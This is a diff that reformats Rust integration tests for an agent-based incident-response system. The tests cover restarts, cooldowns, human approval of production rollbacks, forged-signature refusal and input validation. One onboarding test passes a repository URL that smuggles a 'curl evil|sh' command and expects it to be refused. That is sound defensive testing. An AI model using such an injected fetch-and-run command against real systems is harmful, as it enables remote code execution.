@@ -10,20 +10,34 @@ use bus_schema::proof::{ProofKind, ProofRecord};
 use bus_schema::{Action, ActionParams, ApprovalClaims, Timestamp, Uuid, subject};
 use cn_tests::fleet::Fleet;
 use cn_tests::proof_log::of_kind;
-use cn_tests::scenario::{cnctl, crash, deploy, for_service, metric_at, pipeline_pub, position, crash_restarted, latency_within_the_cooldown};
+use cn_tests::scenario::{
+    cnctl, crash, crash_restarted, deploy, for_service, latency_within_the_cooldown, metric_at,
+    pipeline_pub, position,
+};
 use serde_json::json;
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn a_crash_in_stage_is_detected_restarted_and_executed_and_a_second_restart_is_held_by_the_cooldown() {
+async fn a_crash_in_stage_is_detected_restarted_and_executed_and_a_second_restart_is_held_by_the_cooldown()
+ {
     let fleet = Fleet::start().await.unwrap();
     crash_restarted(&fleet, "payments-api").await;
     let records = latency_within_the_cooldown(&fleet, "payments-api").await;
-    let chain = [ProofKind::IncidentOpened, ProofKind::ActionProposed, ProofKind::ActionApproved, ProofKind::ActionExecuted];
-    let positions: Vec<usize> = chain.iter().map(|k| position(&records, *k, "payments-api")).collect();
+    let chain = [
+        ProofKind::IncidentOpened,
+        ProofKind::ActionProposed,
+        ProofKind::ActionApproved,
+        ProofKind::ActionExecuted,
+    ];
+    let positions: Vec<usize> =
+        chain.iter().map(|k| position(&records, *k, "payments-api")).collect();
     assert!(positions.windows(2).all(|w| w[0] < w[1]), "in order: {positions:?}");
-    let flow: Vec<ProofRecord> = chain.iter().map(|k| for_service(&records, *k, "payments-api").remove(0)).collect();
+    let flow: Vec<ProofRecord> =
+        chain.iter().map(|k| for_service(&records, *k, "payments-api").remove(0)).collect();
     let correlation = flow[0].correlation_id.clone().unwrap();
-    assert!(flow.iter().all(|r| r.correlation_id.as_deref() == Some(correlation.as_str())), "one correlation id: {flow:#?}");
+    assert!(
+        flow.iter().all(|r| r.correlation_id.as_deref() == Some(correlation.as_str())),
+        "one correlation id: {flow:#?}"
+    );
     assert_eq!(flow[1].action, Some(Action::Restart));
     assert_eq!(flow[3].detail["backend"], "dry_run");
     assert_eq!(flow[0].incident_id, flow[3].incident_id);
@@ -31,21 +45,42 @@ async fn a_crash_in_stage_is_detected_restarted_and_executed_and_a_second_restar
     // The crash resolved and the restart was judged; a latency problem follows within the
     // minute, and the restart proposed for it is held back by the cooldown.
     let outcome = for_service(&records, ProofKind::OutcomeRecorded, "payments-api").remove(0);
-    assert_eq!((outcome.action.clone(), &outcome.detail["recovered"]), (Some(Action::Restart), &json!(true)), "{outcome:#?}");
+    assert_eq!(
+        (outcome.action.clone(), &outcome.detail["recovered"]),
+        (Some(Action::Restart), &json!(true)),
+        "{outcome:#?}"
+    );
     let refused = for_service(&records, ProofKind::ActionRefused, "payments-api");
     assert_eq!(refused[0].reason.as_deref(), Some("cooldown_active"), "{refused:#?}");
     assert_eq!(refused[0].action, Some(Action::Restart));
     assert!(refused[0].detail["remaining_s"].as_f64().unwrap() > 0.0);
-    let restarts = for_service(&records, ProofKind::ActionExecuted, "payments-api").into_iter().filter(|r| r.action == Some(Action::Restart)).count();
+    let restarts = for_service(&records, ProofKind::ActionExecuted, "payments-api")
+        .into_iter()
+        .filter(|r| r.action == Some(Action::Restart))
+        .count();
     assert_eq!(restarts, 1, "executed once");
     // The refusal steers the next choice at once: the latency incident gets its next candidate.
-    let latency = for_service(&records, ProofKind::IncidentOpened, "payments-api").into_iter().find(|r| r.detail["kind"] == "high_latency").unwrap();
+    let latency = for_service(&records, ProofKind::IncidentOpened, "payments-api")
+        .into_iter()
+        .find(|r| r.detail["kind"] == "high_latency")
+        .unwrap();
     let records = fleet
-        .records_until("the next candidate", |r| for_service(r, ProofKind::ActionProposed, "payments-api").iter().any(|p| p.incident_id == latency.incident_id && p.action != Some(Action::Restart)))
+        .records_until("the next candidate", |r| {
+            for_service(r, ProofKind::ActionProposed, "payments-api")
+                .iter()
+                .any(|p| p.incident_id == latency.incident_id && p.action != Some(Action::Restart))
+        })
         .await
         .unwrap();
-    let next = for_service(&records, ProofKind::ActionProposed, "payments-api").into_iter().rfind(|p| p.incident_id == latency.incident_id).unwrap();
-    assert_eq!(next.detail["trigger"], json!(format!("refused:{}", refused[0].proposal_id.unwrap())), "{next:#?}");
+    let next = for_service(&records, ProofKind::ActionProposed, "payments-api")
+        .into_iter()
+        .rfind(|p| p.incident_id == latency.incident_id)
+        .unwrap();
+    assert_eq!(
+        next.detail["trigger"],
+        json!(format!("refused:{}", refused[0].proposal_id.unwrap())),
+        "{next:#?}"
+    );
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
@@ -57,19 +92,49 @@ async fn a_restart_that_works_is_judged_recovered_and_the_incident_resolves_all_
     let mut deployed = deploy("stage", "orders", "2.4.0", Some("2.3.9"), "succeeded");
     deployed["timestamp"] = metric_at("stage", "orders", -1300, json!({}))["timestamp"].clone();
     pipeline_pub(&fleet, "cn.events.deploy.stage.orders", deployed).await;
-    pipeline_pub(&fleet, subject, metric_at("stage", "orders", -1200, json!({"crash_looping": true, "restarts": 5}))).await;
-    fleet.records_until("the restart to be executed", |r| !for_service(r, ProofKind::ActionExecuted, "orders").is_empty()).await.unwrap();
+    pipeline_pub(
+        &fleet,
+        subject,
+        metric_at("stage", "orders", -1200, json!({"crash_looping": true, "restarts": 5})),
+    )
+    .await;
+    fleet
+        .records_until("the restart to be executed", |r| {
+            !for_service(r, ProofKind::ActionExecuted, "orders").is_empty()
+        })
+        .await
+        .unwrap();
 
     // The service recovers: three healthy samples resolve the incident; then time passes, in
     // the samples' own clock, until the verification window has run out.
     for k in 1..=3 {
-        pipeline_pub(&fleet, subject, metric_at("stage", "orders", -1200 + 10 * k, json!({"crash_looping": false, "error_rate": 0.001}))).await;
+        pipeline_pub(
+            &fleet,
+            subject,
+            metric_at(
+                "stage",
+                "orders",
+                -1200 + 10 * k,
+                json!({"crash_looping": false, "error_rate": 0.001}),
+            ),
+        )
+        .await;
     }
     // The execution result may reach the detector after those samples: each later sample
     // moves the service's clock on, until the window has run out either way.
     let mut records = Vec::new();
     for step in 1..=12 {
-        pipeline_pub(&fleet, subject, metric_at("stage", "orders", -1200 + 300 + 60 * step, json!({"crash_looping": false, "error_rate": 0.001}))).await;
+        pipeline_pub(
+            &fleet,
+            subject,
+            metric_at(
+                "stage",
+                "orders",
+                -1200 + 300 + 60 * step,
+                json!({"crash_looping": false, "error_rate": 0.001}),
+            ),
+        )
+        .await;
         tokio::time::sleep(Duration::from_millis(400)).await;
         records = fleet.records().await.unwrap();
         if !for_service(&records, ProofKind::OutcomeRecorded, "orders").is_empty() {
@@ -77,23 +142,46 @@ async fn a_restart_that_works_is_judged_recovered_and_the_incident_resolves_all_
         }
     }
     let outcomes = for_service(&records, ProofKind::OutcomeRecorded, "orders");
-    let outcome = outcomes.first().unwrap_or_else(|| panic!("no outcome; the detector said:\n{}", fleet.logs())).clone();
+    let outcome = outcomes
+        .first()
+        .unwrap_or_else(|| panic!("no outcome; the detector said:\n{}", fleet.logs()))
+        .clone();
     assert_eq!(outcome.detail["recovered"], true, "{outcome:#?}");
     assert_eq!(outcome.action, Some(Action::Restart));
     let executed = for_service(&records, ProofKind::ActionExecuted, "orders").remove(0);
-    assert_eq!(outcome.correlation_id, executed.correlation_id, "the outcome continues the action's chain");
+    assert_eq!(
+        outcome.correlation_id, executed.correlation_id,
+        "the outcome continues the action's chain"
+    );
     assert_eq!(outcome.proposal_id, executed.proposal_id);
     let resolved = for_service(&records, ProofKind::IncidentResolved, "orders").remove(0);
     assert_eq!(resolved.incident_id, outcome.incident_id);
     assert!(resolved.detail["time_to_recover_s"].as_f64().unwrap() > 0.0, "{}", resolved.detail);
-    let chain = [ProofKind::IncidentOpened, ProofKind::ActionProposed, ProofKind::ActionApproved, ProofKind::ActionExecuted, ProofKind::IncidentResolved];
+    let chain = [
+        ProofKind::IncidentOpened,
+        ProofKind::ActionProposed,
+        ProofKind::ActionApproved,
+        ProofKind::ActionExecuted,
+        ProofKind::IncidentResolved,
+    ];
     let positions: Vec<usize> = chain.iter().map(|k| position(&records, *k, "orders")).collect();
     assert!(positions.windows(2).all(|w| w[0] < w[1]), "in order: {positions:?}");
 
     // The service's SLO status, for the negotiator's error-budget gate, is on the bus too.
     let operator = async_nats::jetstream::new(fleet.client_as("operator").await.unwrap());
-    let stored = operator.get_stream("CN_WORK").await.unwrap().get_last_raw_message_by_subject("cn.slo.stage.orders").await.unwrap();
-    let slo: bus_schema::SloStatus = bus_schema::codec::decode(bus_schema::Encoding::MsgPack, &stored.payload, &bus_schema::Limits::default()).unwrap();
+    let stored = operator
+        .get_stream("CN_WORK")
+        .await
+        .unwrap()
+        .get_last_raw_message_by_subject("cn.slo.stage.orders")
+        .await
+        .unwrap();
+    let slo: bus_schema::SloStatus = bus_schema::codec::decode(
+        bus_schema::Encoding::MsgPack,
+        &stored.payload,
+        &bus_schema::Limits::default(),
+    )
+    .unwrap();
     assert_eq!((slo.objective, slo.window_days), (0.999, 30));
     assert!(slo.budget_remaining > 0.99 && slo.budget_remaining <= 1.0, "{slo:?}");
     assert!(slo.burn_rates.iter().any(|b| b.window_s == 300), "{slo:?}");
@@ -104,17 +192,42 @@ async fn a_detector_killed_mid_incident_opens_no_duplicate_after_it_restarts() {
     let mut fleet = Fleet::start().await.unwrap();
     let subject = "cn.events.metric.stage.ledger";
     for k in 0..20 {
-        pipeline_pub(&fleet, subject, metric_at("stage", "ledger", -400 + 10 * k, json!({"error_rate": 0.2}))).await;
+        pipeline_pub(
+            &fleet,
+            subject,
+            metric_at("stage", "ledger", -400 + 10 * k, json!({"error_rate": 0.2})),
+        )
+        .await;
     }
-    fleet.records_until("the incident", |r| !for_service(r, ProofKind::IncidentOpened, "ledger").is_empty()).await.unwrap();
+    fleet
+        .records_until("the incident", |r| {
+            !for_service(r, ProofKind::IncidentOpened, "ledger").is_empty()
+        })
+        .await
+        .unwrap();
     fleet.agent("issue-detector").unwrap().kill9();
     fleet.agent("issue-detector").unwrap().restart().unwrap();
     for k in 20..40 {
-        pipeline_pub(&fleet, subject, metric_at("stage", "ledger", -400 + 10 * k, json!({"error_rate": 0.2}))).await;
+        pipeline_pub(
+            &fleet,
+            subject,
+            metric_at("stage", "ledger", -400 + 10 * k, json!({"error_rate": 0.2})),
+        )
+        .await;
     }
     // Events are handled in order: once this one's incident is there, the samples before it were judged.
-    pipeline_pub(&fleet, "cn.events.deploy.stage.marker", deploy("stage", "marker", "1.0.0", None, "failed")).await;
-    let records = fleet.records_until("the marker incident", |r| !for_service(r, ProofKind::IncidentOpened, "marker").is_empty()).await.unwrap();
+    pipeline_pub(
+        &fleet,
+        "cn.events.deploy.stage.marker",
+        deploy("stage", "marker", "1.0.0", None, "failed"),
+    )
+    .await;
+    let records = fleet
+        .records_until("the marker incident", |r| {
+            !for_service(r, ProofKind::IncidentOpened, "marker").is_empty()
+        })
+        .await
+        .unwrap();
     let opened = for_service(&records, ProofKind::IncidentOpened, "ledger");
     assert_eq!(opened.len(), 1, "{opened:#?}");
     assert_eq!(opened[0].detail["kind"], "high_error_rate");
@@ -123,16 +236,31 @@ async fn a_detector_killed_mid_incident_opens_no_duplicate_after_it_restarts() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_prod_rollback_waits_for_a_human_and_is_never_executed() {
     let fleet = Fleet::start().await.unwrap();
-    pipeline_pub(&fleet, "cn.events.deploy.prod.checkout", deploy("prod", "checkout", "1.14.2", None, "succeeded")).await;
-    pipeline_pub(&fleet, "cn.events.deploy.prod.checkout", deploy("prod", "checkout", "1.15.0", Some("1.14.2"), "failed")).await;
+    pipeline_pub(
+        &fleet,
+        "cn.events.deploy.prod.checkout",
+        deploy("prod", "checkout", "1.14.2", None, "succeeded"),
+    )
+    .await;
+    pipeline_pub(
+        &fleet,
+        "cn.events.deploy.prod.checkout",
+        deploy("prod", "checkout", "1.15.0", Some("1.14.2"), "failed"),
+    )
+    .await;
     let records = fleet
-        .records_until("the rollback to be held for a human", |r| !for_service(r, ProofKind::ActionPendingApproval, "checkout").is_empty())
+        .records_until("the rollback to be held for a human", |r| {
+            !for_service(r, ProofKind::ActionPendingApproval, "checkout").is_empty()
+        })
         .await
         .unwrap();
     let pending = for_service(&records, ProofKind::ActionPendingApproval, "checkout").remove(0);
     assert_eq!(pending.action, Some(Action::Rollback));
     assert_eq!(pending.reason.as_deref(), Some("approval_required"));
-    assert_eq!(for_service(&records, ProofKind::IncidentOpened, "checkout")[0].detail["kind"], "deploy_failed");
+    assert_eq!(
+        for_service(&records, ProofKind::IncidentOpened, "checkout")[0].detail["kind"],
+        "deploy_failed"
+    );
     // Give the fleet time to do something wrong, then check it did not.
     tokio::time::sleep(Duration::from_secs(2)).await;
     let records = fleet.records().await.unwrap();
@@ -167,13 +295,19 @@ async fn only_real_governance_signatures_are_executed_and_only_governance_can_pu
     forged.key_id = "0000000000000000".into();
     let gov = fleet.client_as("governance-gate").await.unwrap();
     let js = async_nats::jetstream::new(gov);
-    let out = bus_schema::codec::Outgoing::new(&subject::APPROVED.subject(&forged.claims.env, &forged.claims.service), &forged).unwrap();
+    let out = bus_schema::codec::Outgoing::new(
+        &subject::APPROVED.subject(&forged.claims.env, &forged.claims.service),
+        &forged,
+    )
+    .unwrap();
     let mut headers = async_nats::HeaderMap::new();
     headers.insert("Content-Type", "application/msgpack");
     js.publish_with_headers(out.subject, headers, out.payload.into()).await.unwrap().await.unwrap();
 
     let records = fleet
-        .records_until("the forged approval to be refused", |r| !for_service(r, ProofKind::ExecutionRefused, "ledger").is_empty())
+        .records_until("the forged approval to be refused", |r| {
+            !for_service(r, ProofKind::ExecutionRefused, "ledger").is_empty()
+        })
         .await
         .unwrap();
     let refused = for_service(&records, ProofKind::ExecutionRefused, "ledger").remove(0);
@@ -183,7 +317,8 @@ async fn only_real_governance_signatures_are_executed_and_only_governance_can_pu
     // The pipeline user may not publish approvals at all: the server drops the message and
     // tells the client so, asynchronously.
     let (tx, mut violations) = tokio::sync::mpsc::unbounded_channel();
-    let password = std::fs::read_to_string(fleet.password_file("pipeline")).unwrap().trim().to_owned();
+    let password =
+        std::fs::read_to_string(fleet.password_file("pipeline")).unwrap().trim().to_owned();
     let pipeline = async_nats::ConnectOptions::with_user_and_password("pipeline".into(), password)
         .event_callback(move |event| {
             let tx = tx.clone();
@@ -197,42 +332,82 @@ async fn only_real_governance_signatures_are_executed_and_only_governance_can_pu
         .await
         .unwrap();
     let signer_for_real = impostor.sign(forged_claims("vault"));
-    let out = bus_schema::codec::Outgoing::new(&subject::APPROVED.subject(&signer_for_real.claims.env, &signer_for_real.claims.service), &signer_for_real).unwrap();
+    let out = bus_schema::codec::Outgoing::new(
+        &subject::APPROVED.subject(&signer_for_real.claims.env, &signer_for_real.claims.service),
+        &signer_for_real,
+    )
+    .unwrap();
     pipeline.publish(out.subject.clone(), out.payload.into()).await.unwrap();
     pipeline.flush().await.unwrap();
-    let violation = tokio::time::timeout(Duration::from_secs(5), violations.recv()).await.unwrap().unwrap();
+    let violation =
+        tokio::time::timeout(Duration::from_secs(5), violations.recv()).await.unwrap().unwrap();
     assert!(violation.to_lowercase().contains("permissions violation"), "{violation}");
     assert!(violation.contains("cn.actions.approved.stage.vault"), "{violation}");
     tokio::time::sleep(Duration::from_secs(1)).await;
     let records = fleet.records().await.unwrap();
-    assert!(for_service(&records, ProofKind::ExecutionRefused, "vault").is_empty(), "the executor never saw it");
+    assert!(
+        for_service(&records, ProofKind::ExecutionRefused, "vault").is_empty(),
+        "the executor never saw it"
+    );
     assert!(for_service(&records, ProofKind::ActionExecuted, "vault").is_empty());
     let operator = async_nats::jetstream::new(fleet.client_as("operator").await.unwrap());
     let work = operator.get_stream("CN_WORK").await.unwrap();
-    assert!(work.get_last_raw_message_by_subject(&out.subject).await.is_err(), "nothing stored on {}", out.subject);
+    assert!(
+        work.get_last_raw_message_by_subject(&out.subject).await.is_err(),
+        "nothing stored on {}",
+        out.subject
+    );
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn bad_input_is_rejected_and_the_next_good_event_still_flows_and_the_chains_verify_after_restarts() {
+async fn bad_input_is_rejected_and_the_next_good_event_still_flows_and_the_chains_verify_after_restarts()
+ {
     let mut fleet = Fleet::start().await.unwrap();
     let client = fleet.client_as("pipeline").await.unwrap();
-    client.publish("cn.events.metric.stage.search", "{\"service\": \"search\", oops".into()).await.unwrap();
-    client.publish("cn.events.metric.stage.search.v2", crash("stage", "search", true).to_string().into()).await.unwrap();
-    client.flush().await.unwrap();
-    // Well-formed, but stamped an hour ahead of the clock (the input rules every agent applies).
-    pipeline_pub(&fleet, "cn.events.metric.stage.search", metric_at("stage", "search", 3600, json!({"crash_looping": true}))).await;
-    pipeline_pub(&fleet, "cn.events.deploy.stage.search", deploy("stage", "search", "3.0.0", None, "succeeded")).await;
-    pipeline_pub(&fleet, "cn.events.metric.stage.search", crash("stage", "search", true)).await;
-    let records = fleet
-        .records_until("the good event's incident", |r| !for_service(r, ProofKind::IncidentOpened, "search").is_empty())
+    client
+        .publish("cn.events.metric.stage.search", "{\"service\": \"search\", oops".into())
         .await
         .unwrap();
-    let rejected: Vec<ProofRecord> =
-        of_kind(&records, ProofKind::EventRejected).into_iter().filter(|r| r.agent.as_str() == "issue-detector").collect();
+    client
+        .publish(
+            "cn.events.metric.stage.search.v2",
+            crash("stage", "search", true).to_string().into(),
+        )
+        .await
+        .unwrap();
+    client.flush().await.unwrap();
+    // Well-formed, but stamped an hour ahead of the clock (the input rules every agent applies).
+    pipeline_pub(
+        &fleet,
+        "cn.events.metric.stage.search",
+        metric_at("stage", "search", 3600, json!({"crash_looping": true})),
+    )
+    .await;
+    pipeline_pub(
+        &fleet,
+        "cn.events.deploy.stage.search",
+        deploy("stage", "search", "3.0.0", None, "succeeded"),
+    )
+    .await;
+    pipeline_pub(&fleet, "cn.events.metric.stage.search", crash("stage", "search", true)).await;
+    let records = fleet
+        .records_until("the good event's incident", |r| {
+            !for_service(r, ProofKind::IncidentOpened, "search").is_empty()
+        })
+        .await
+        .unwrap();
+    let rejected: Vec<ProofRecord> = of_kind(&records, ProofKind::EventRejected)
+        .into_iter()
+        .filter(|r| r.agent.as_str() == "issue-detector")
+        .collect();
     let reasons: Vec<&str> = rejected.iter().filter_map(|r| r.reason.as_deref()).collect();
     assert_eq!(reasons, vec!["malformed", "invalid_subject", "out_of_order"]);
     assert!(rejected[1].detail["error"].as_str().unwrap().contains("a token may not contain '.'"));
-    assert!(rejected[2].detail["error"].as_str().unwrap().contains("ahead of the clock at arrival"), "{}", rejected[2].detail);
+    assert!(
+        rejected[2].detail["error"].as_str().unwrap().contains("ahead of the clock at arrival"),
+        "{}",
+        rejected[2].detail
+    );
 
     // Restart two agents mid-run and crash a third; every chain still verifies.
     fleet.agent("governance-gate").unwrap().restart().unwrap();
@@ -240,12 +415,22 @@ async fn bad_input_is_rejected_and_the_next_good_event_still_flows_and_the_chain
     fleet.agent("issue-detector").unwrap().restart().unwrap();
     fleet.agent("executor").unwrap().restart().unwrap();
     fleet
-        .records_until("the restarted agents to start", |r| of_kind(r, ProofKind::AgentStarted).len() >= 9)
+        .records_until("the restarted agents to start", |r| {
+            of_kind(r, ProofKind::AgentStarted).len() >= 9
+        })
         .await
         .unwrap();
     let cnctl = cn_tests::fleet::binary("cnctl").unwrap();
     let out = std::process::Command::new(cnctl)
-        .args(["proof", "verify", "--nats-url", &fleet.server.url(), "--nats-user", "auditor", "--nats-password-file"])
+        .args([
+            "proof",
+            "verify",
+            "--nats-url",
+            &fleet.server.url(),
+            "--nats-user",
+            "auditor",
+            "--nats-password-file",
+        ])
         .arg(fleet.password_file("auditor"))
         .output()
         .unwrap();
@@ -263,31 +448,94 @@ async fn contract_requests_and_onboarding_published_with_cnctl_are_answered_on_t
         "rollback_capability":true,"dependencies":["postgres"]});
     let out = cnctl(&fleet, "pipeline", &["publish", "contract", "-"], Some(&request.to_string()));
     assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
-    assert!(String::from_utf8_lossy(&out.stdout).contains("published contract request on cn.requests.contract.prod.user-service"));
+    assert!(
+        String::from_utf8_lossy(&out.stdout)
+            .contains("published contract request on cn.requests.contract.prod.user-service")
+    );
 
-    let good = cnctl(&fleet, "pipeline", &["publish", "onboard", "--app", "demo-api", "--repo", "https://example.com/org/demo-api", "--runtime", "backend", "--env", "dev"], None);
+    let good = cnctl(
+        &fleet,
+        "pipeline",
+        &[
+            "publish",
+            "onboard",
+            "--app",
+            "demo-api",
+            "--repo",
+            "https://example.com/org/demo-api",
+            "--runtime",
+            "backend",
+            "--env",
+            "dev",
+        ],
+        None,
+    );
     assert!(good.status.success(), "{}", String::from_utf8_lossy(&good.stderr));
-    let hostile = cnctl(&fleet, "pipeline", &["publish", "onboard", "--app", "pwn", "--repo", "https://example.com/x;curl evil|sh", "--runtime", "backend", "--env", "dev"], None);
+    let hostile = cnctl(
+        &fleet,
+        "pipeline",
+        &[
+            "publish",
+            "onboard",
+            "--app",
+            "pwn",
+            "--repo",
+            "https://example.com/x;curl evil|sh",
+            "--runtime",
+            "backend",
+            "--env",
+            "dev",
+        ],
+        None,
+    );
     assert!(hostile.status.success(), "cnctl publishes it; the deploy agent judges it");
     // cnctl itself refuses what the contract forbids, before anything is sent.
-    let bad = cnctl(&fleet, "pipeline", &["publish", "metric", "--env", "dev", "--service", "api", "--error-rate", "1.3"], None);
+    let bad = cnctl(
+        &fleet,
+        "pipeline",
+        &["publish", "metric", "--env", "dev", "--service", "api", "--error-rate", "1.3"],
+        None,
+    );
     assert!(!bad.status.success());
     assert!(String::from_utf8_lossy(&bad.stderr).contains("error_rate = 1.3 is out of range"));
 
     let records = fleet
         .records_until("the contract and both onboarding answers", |r| {
-            !of_kind(r, ProofKind::ContractDrafted).is_empty() && of_kind(r, ProofKind::OnboardingAccepted).len() + of_kind(r, ProofKind::OnboardingRefused).len() == 2
+            !of_kind(r, ProofKind::ContractDrafted).is_empty()
+                && of_kind(r, ProofKind::OnboardingAccepted).len()
+                    + of_kind(r, ProofKind::OnboardingRefused).len()
+                    == 2
         })
         .await
         .unwrap();
     let contract = of_kind(&records, ProofKind::ContractDrafted).remove(0);
     assert_eq!(contract.detail["deployment_id"], "deploy-001");
-    assert!(contract.detail["validators"].as_array().unwrap().contains(&json!("migration_rollback_script")), "{}", contract.detail);
+    assert!(
+        contract.detail["validators"]
+            .as_array()
+            .unwrap()
+            .contains(&json!("migration_rollback_script")),
+        "{}",
+        contract.detail
+    );
     assert_eq!(of_kind(&records, ProofKind::OnboardingAccepted)[0].detail["app_name"], "demo-api");
-    assert_eq!(of_kind(&records, ProofKind::OnboardingRefused)[0].reason.as_deref(), Some("invalid_repo_url"));
+    assert_eq!(
+        of_kind(&records, ProofKind::OnboardingRefused)[0].reason.as_deref(),
+        Some("invalid_repo_url")
+    );
 
     // The operator reads it back readably.
-    let tail = cnctl(&fleet, "operator", &["tail", "--no-follow", "--since", "all", "--kind", "onboarding_refused"], None);
+    let tail = cnctl(
+        &fleet,
+        "operator",
+        &["tail", "--no-follow", "--since", "all", "--kind", "onboarding_refused"],
+        None,
+    );
     let text = String::from_utf8_lossy(&tail.stdout);
-    assert!(text.contains("deploy-agent.0") && text.contains("onboarding_refused") && text.contains("reason=invalid_repo_url"), "{text}");
+    assert!(
+        text.contains("deploy-agent.0")
+            && text.contains("onboarding_refused")
+            && text.contains("reason=invalid_repo_url"),
+        "{text}"
+    );
 }
